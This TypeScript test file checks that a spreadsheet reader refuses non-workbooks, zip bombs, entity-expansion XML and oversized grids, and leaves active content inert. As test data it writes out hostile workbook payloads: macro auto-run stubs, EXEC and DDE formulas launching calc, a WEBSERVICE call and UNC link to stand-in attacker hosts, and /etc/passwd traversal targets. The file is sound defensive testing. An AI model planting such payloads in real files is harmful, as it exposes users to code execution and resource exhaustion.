/** Files that are no workbook, or would be too much: each refused with its reason before it does harm. */
import JSZip from 'jszip';
import { FileError, readXlsx } from '../../src/files';
import { rowOf, workbookParts, zipped } from './parts';

const utf8 = (text: string) => new TextEncoder().encode(text);
const COMPOUND = [0xd0, 0xcf, 0x11, 0xe0, 0xa1, 0xb1, 0x1a, 0xe1];
const utf16 = (text: string) => [...text].flatMap((sign) => [sign.charCodeAt(0), 0]);

const strangers: { name: string; bytes: () => Uint8Array | Promise<Uint8Array>; code: string; data?: object }[] = [
  { name: 'an empty file', bytes: () => new Uint8Array(), code: 'file.empty' },
  { name: 'a text file', bytes: () => utf8('kode;jawaban\nA.I.1.i.a;Ya\n'), code: 'file.not-workbook', data: { found: 'text' } },
  {
    name: 'a saved web page',
    bytes: () => utf8('\ufeff<!DOCTYPE html><table><tr><td>LKE'),
    code: 'file.not-workbook',
    data: { found: 'html' },
  },
  { name: 'a table of HTML', bytes: () => utf8('  <table border=1>'), code: 'file.not-workbook', data: { found: 'html' } },
  {
    name: 'an XML spreadsheet',
    bytes: () => utf8('<?xml version="1.0"?><Workbook/>'),
    code: 'file.not-workbook',
    data: { found: 'xml' },
  },
  { name: 'a PDF', bytes: () => utf8('%PDF-1.7 ...'), code: 'file.not-workbook', data: { found: 'pdf' } },
  {
    name: 'a picture',
    bytes: () => new Uint8Array([0x89, 0x50, 0x4e, 0x47, 0, 0, 0, 13, 0xff, 0xfe]),
    code: 'file.not-workbook',
    data: { found: 'binary' },
  },
  { name: 'an old workbook', bytes: () => new Uint8Array([...COMPOUND, ...utf16('Workbook')]), code: 'file.old-excel' },
  {
    name: 'a workbook with a password',
    bytes: () => new Uint8Array([...COMPOUND, ...utf16('EncryptedPackage')]),
    code: 'file.encrypted',
  },
  {
    name: 'a Word document',
    bytes: () => zipped({ 'word/document.xml': '<d/>' }),
    code: 'file.not-workbook',
    data: { found: 'word' },
  },
  {
    name: 'an OpenDocument file',
    bytes: () => zipped({ 'content.xml': '<d/>' }),
    code: 'file.not-workbook',
    data: { found: 'opendocument' },
  },
  {
    name: 'a binary workbook',
    bytes: () => zipped({ 'xl/workbook.bin': 'x' }),
    code: 'file.not-workbook',
    data: { found: 'xlsb' },
  },
  { name: 'any archive', bytes: () => zipped({ 'foto.jpg': 'x' }), code: 'file.not-workbook', data: { found: 'zip' } },
  {
    name: 'half a workbook',
    bytes: async () => (await zipped(workbookParts(rowOf('<c r="A1"><v>1</v></c>')))).slice(0, 900),
    code: 'file.damaged',
  },
  {
    name: 'a workbook of broken XML',
    bytes: () => zipped(workbookParts('<sheetData><row r="1"><c></row>')),
    code: 'file.damaged',
  },
  {
    name: 'a workbook without its sheet',
    bytes: () => {
      const { 'xl/worksheets/sheet1.xml': _, ...rest } = workbookParts('');
      return zipped(rest);
    },
    code: 'file.damaged',
  },
];

async function refusal(
  bytes: Uint8Array,
  ...limits: Parameters<typeof readXlsx> extends [unknown, ...infer Rest] ? Rest : never
) {
  const error: unknown = await readXlsx(bytes, ...limits).then(
    () => 'read',
    (reason) => reason,
  );
  expect(error).toBeInstanceOf(FileError);
  const { code, data } = error as FileError;
  return { code, data };
}

test.each(strangers)('refuses $name', async ({ bytes, code, data = {} }) => {
  expect(await refusal(await bytes())).toEqual({ code, data });
});

const limits = { unpacked: 2 ** 20, cells: 1000, parts: 50, text: 1e6 };
const book = (sheet: string) => zipped(workbookParts(sheet));
const rows = (count: number, cell: string) =>
  `<sheetData>${Array.from({ length: count }, (_, row) => `<row r="${row + 1}">${cell}</row>`).join('')}</sheetData>`;

test('refuses what unpacks to more than the limit, before unpacking', async () => {
  const bomb = await book(`<sheetData/>${' '.repeat(4 * 2 ** 20)}`);
  expect(bomb.length).toBeLessThan(25_000);
  expect(await refusal(bomb, limits)).toEqual({ code: 'file.too-large', data: { size: 5, limit: 1 } });
});

test('refuses it also where the directory understates the size', async () => {
  const bomb = await book(`<sheetData/>${' '.repeat(4 * 2 ** 20)}`);
  const view = new DataView(bomb.buffer, bomb.byteOffset, bomb.byteLength);
  let understated = 0;
  for (let at = 0; at < bomb.length - 28; at++) {
    // The directory's entries: signature, and 24 bytes on the size when unpacked.
    if (view.getUint32(at, true) !== 0x02014b50 || view.getUint32(at + 24, true) < 2 ** 20) continue;
    view.setUint32(at + 24, 100, true);
    understated++;
  }
  expect(understated).toBe(1);
  expect((await refusal(bomb, limits)).code).toBe('file.too-large');
});

test('what is not read does not count: pictures may be large', async () => {
  const zip = await JSZip.loadAsync(await book(rowOf('<c r="A1"><v>7</v></c>')));
  zip.file('xl/media/image1.png', new Uint8Array(2 * 2 ** 20));
  expect((await readXlsx(await zip.generateAsync({ type: 'uint8array' }), limits))[0]!.values).toEqual([[7]]);
});

const crowds: { name: string; sheet: string; code: string }[] = [
  { name: 'more cells than the limit', sheet: rows(600, '<c><v>1</v></c><c><v>1</v></c>'), code: 'file.too-many-cells' },
  {
    name: 'a cell so far out that the grid would explode',
    sheet: '<sheetData><row r="1"><c r="A1"><v>1</v></c></row><row r="9000"><c r="XFD9000"><v>1</v></c></row></sheetData>',
    code: 'file.too-many-cells',
  },
  {
    name: 'a row beyond the last one',
    sheet: '<sheetData><row r="4000000000"><c r="A4000000000"><v>1</v></c></row></sheetData>',
    code: 'file.damaged',
  },
];

/** A few more than the limit of cells. */
const CROWD = 501_000;
/** Many times the limit of cells that is given beside them. */
const EMPTY = 250_000;

/** Milliseconds of the processor: a busy machine is no failure. */
const spent = (): number => {
  const { user, system } = process.cpuUsage();
  return (user + system) / 1_000;
};

test('refuses half a million rows before it has read them', async () => {
  const file = await book(rows(CROWD, '<c><v>1</v></c>'));
  const started = spent();
  expect(await refusal(file)).toEqual({ code: 'file.too-many-cells', data: { limit: 500_000 } });
  expect(spent() - started).toBeLessThan(10_000);
});

test('rows without a cell are nothing, however many', async () => {
  const [grid] = await readXlsx(
    await book(`${rows(EMPTY - 1, '').replace('</sheetData>', '')}${'<row><c><v>7</v></c></row></sheetData>'}`),
    {
      cells: 75_000,
    },
  );
  expect(grid!.values).toHaveLength(EMPTY);
});

test('refuses formulas that would grow without end from one that is shared', async () => {
  const long = `SUM(${'A1,'.repeat(2000)}A1)`;
  const master = `<row r="1"><c r="B1"><f t="shared" ref="B1:B900" si="0">${long}</f></c></row>`;
  const slaves = Array.from({ length: 899 }, (_, n) => `<row r="${n + 2}"><c r="B${n + 2}"><f t="shared" si="0"/></c></row>`);
  const file = await book(`<sheetData>${master}${slaves.join('')}</sheetData>`);
  expect(file.length).toBeLessThan(20_000);
  expect(await refusal(file, limits)).toEqual({ code: 'file.too-much-text', data: { limit: 1 } });
  expect((await readXlsx(file))[0]!.formulas[899]![1]).toMatch(/^=SUM\(A900,/);
});

test('refuses an archive of endless parts before it has listed them', async () => {
  const parts: Record<string, string> = workbookParts(rowOf('<c r="A1"><v>7</v></c>'));
  for (let n = 0; n < 60; n++) parts[`sampah/${n}`] = '';
  const file = await zipped(parts);
  expect(await refusal(file, limits)).toEqual({ code: 'file.too-many-parts', data: { limit: 50 } });
  expect((await readXlsx(file))[0]!.values).toEqual([[7]]);
});

test('refuses what defines its own entities to grow from', async () => {
  const lol = '<!DOCTYPE x [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;">]>';
  const parts = workbookParts(rowOf('<c r="A1" t="str"><v>&b;</v></c>'));
  parts['xl/worksheets/sheet1.xml'] = lol + parts['xl/worksheets/sheet1.xml'];
  expect((await refusal(await zipped(parts))).code).toBe('file.damaged');
});

test.each(crowds)('refuses $name', async ({ sheet, code }) => {
  expect((await refusal(await book(sheet), limits)).code).toBe(code);
});

const spreading: { name: string; xml: string }[] = [
  {
    name: 'a validation on the whole sheet',
    xml: '<dataValidations count="1"><dataValidation type="whole" sqref="A1:XFD1048576"><formula1>0</formula1></dataValidation></dataValidations>',
  },
  { name: 'a merge of the whole sheet', xml: '<mergeCells count="1"><mergeCell ref="A1:XFD1048576"/></mergeCells>' },
  { name: 'widths of endless columns', xml: '' },
];

test.each(spreading)('is not slowed by $name', async ({ xml }) => {
  const widths = xml === '' ? '<cols><col min="1" max="2000000000" width="9"/></cols>' : '';
  const started = spent();
  const [grid] = await readXlsx(await book(`${widths}${rowOf('<c r="A1"><v>7</v></c>')}${xml}`));
  expect(grid!.values).toEqual([[7]]);
  expect(spent() - started).toBeLessThan(1000);
});

test('is not slowed by a name for the whole sheet', async () => {
  const parts = workbookParts(rowOf('<c r="A1"><v>7</v></c>'));
  const names = '<definedNames><definedName name="Semua">Satu!$A$1:$XFD$1048576</definedName></definedNames>';
  parts['xl/workbook.xml'] = parts['xl/workbook.xml']!.replace('</sheets>', `</sheets>${names}`);
  const started = spent();
  expect((await readXlsx(await zipped(parts)))[0]!.values).toEqual([[7]]);
  expect(spent() - started).toBeLessThan(1000);
});

/** What a workbook may carry that does something, each beside one honest cell; it must be read, and nothing more. */
const FOREIGN = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships';
const carried: { name: string; change: (parts: Record<string, string>) => void; formula?: string }[] = [
  {
    name: 'macros (.xlsm)',
    change: (parts) => {
      parts['[Content_Types].xml'] = parts['[Content_Types].xml']!.replace(
        '</Types>',
        '<Override PartName="/xl/workbook.xml" ContentType="application/vnd.ms-excel.sheet.macroEnabled.main+xml"/></Types>',
      );
      parts['xl/vbaProject.bin'] = 'Sub Auto_Open()';
      relate(parts, 'rIdM', 'http://schemas.microsoft.com/office/2006/relationships/vbaProject', 'vbaProject.bin');
    },
  },
  {
    name: 'a sheet of Excel 4 macros',
    change: (parts) => {
      parts['xl/macrosheets/sheet1.xml'] =
        '<xm:macrosheet><sheetData><row r="1"><c r="A1"><f>EXEC("calc")</f></c></row></sheetData>';
      relate(parts, 'rIdX', 'http://schemas.microsoft.com/office/2006/relationships/xlMacrosheet', 'macrosheets/sheet1.xml');
      addSheet(parts, 'Makro', 'rIdX');
    },
  },
  {
    name: 'a link to another workbook',
    change: (parts) => {
      parts['xl/externalLinks/externalLink1.xml'] = '<externalLink><externalBook/></externalLink>';
      parts['xl/externalLinks/_rels/externalLink1.xml.rels'] =
        `<Relationships><Relationship Id="rId1" Type="${FOREIGN}/externalLinkPath" Target="file:///\\\\jahat\\a.xlsx" TargetMode="External"/></Relationships>`;
      relate(parts, 'rIdE', `${FOREIGN}/externalLink`, 'externalLinks/externalLink1.xml');
      withFormula(parts, '[1]Lain!A1');
    },
    formula: '=[1]Lain!A1',
  },
  {
    name: 'a formula that calls a program (DDE)',
    change: (parts) => withFormula(parts, "cmd|'/c calc'!A0"),
    formula: "=cmd|'/c calc'!A0",
  },
  {
    name: 'a formula that asks the network',
    change: (parts) => withFormula(parts, 'WEBSERVICE("http://jahat.example/")'),
    formula: '=WEBSERVICE("http://jahat.example/")',
  },
  {
    name: 'names that are formulas',
    change: (parts) => {
      const names =
        '<definedNames><definedName name="Auto_Open">EXEC("calc")</definedName><definedName name="_xlnm.Print_Area">#REF!</definedName></definedNames>';
      parts['xl/workbook.xml'] = parts['xl/workbook.xml']!.replace('</sheets>', `</sheets>${names}`);
    },
  },
];

function relate(parts: Record<string, string>, id: string, type: string, target: string): void {
  const path = 'xl/_rels/workbook.xml.rels';
  parts[path] = parts[path]!.replace(
    '</Relationships>',
    `<Relationship Id="${id}" Type="${type}" Target="${target}"/></Relationships>`,
  );
}

function addSheet(parts: Record<string, string>, name: string, id: string): void {
  parts['xl/workbook.xml'] = parts['xl/workbook.xml']!.replace(
    '</sheets>',
    `<sheet name="${name}" sheetId="9" r:id="${id}"/></sheets>`,
  );
}

function withFormula(parts: Record<string, string>, formula: string): void {
  parts['xl/worksheets/sheet1.xml'] = parts['xl/worksheets/sheet1.xml']!.replace(
    '<v>7',
    `<f>${formula.replaceAll('"', '&quot;')}</f><v>7`,
  );
}

test.each(carried)('reads the cell beside $name, and leaves that alone', async ({ change, formula = null }) => {
  const parts = workbookParts(rowOf('<c r="A1"><v>7</v></c>'));
  change(parts);
  const grids = await readXlsx(await zipped(parts));
  expect(grids).toEqual([{ sheet: 'Satu', values: [[7]], formulas: [[formula]] }]);
});

test.each(['xl/../../luar.xml', '/etc/passwd', 'http://jahat.example/sheet.xml'])(
  'a sheet that is said to be at %s is not looked for there',
  async (target) => {
    const parts = workbookParts(rowOf('<c r="A1"><v>7</v></c>'));
    parts['xl/_rels/workbook.xml.rels'] = parts['xl/_rels/workbook.xml.rels']!.replace('worksheets/sheet1.xml', target);
    expect((await refusal(await zipped(parts))).code).toBe('file.damaged');
  },
);

const timed = async (file: Uint8Array): Promise<[string, number]> => {
  const started = performance.now();
  const { code } = await refusal(file);
  return [code, performance.now() - started];
};

test('millions of open tags, and one text in every cell, are refused before they cost anything', async () => {
  const [deep, deepTime] = await timed(await zipped(workbookParts(`<sheetData>${'<row>'.repeat(6_000_000)}`)));
  expect(deep).toBe('file.too-deep');
  const text = `<si><t>${'x'.repeat(32_000)}</t></si>`;
  const cells = Array.from({ length: 100_000 }, (_, at) => `<row r="${at + 1}"><c t="s"><v>0</v></c></row>`).join('');
  const [many, manyTime] = await timed(await zipped(workbookParts(`<sheetData>${cells}</sheetData>`, [text])));
  expect(many).toBe('file.too-much-text');
  expect(Math.max(deepTime, manyTime)).toBeLessThan(5000);
});
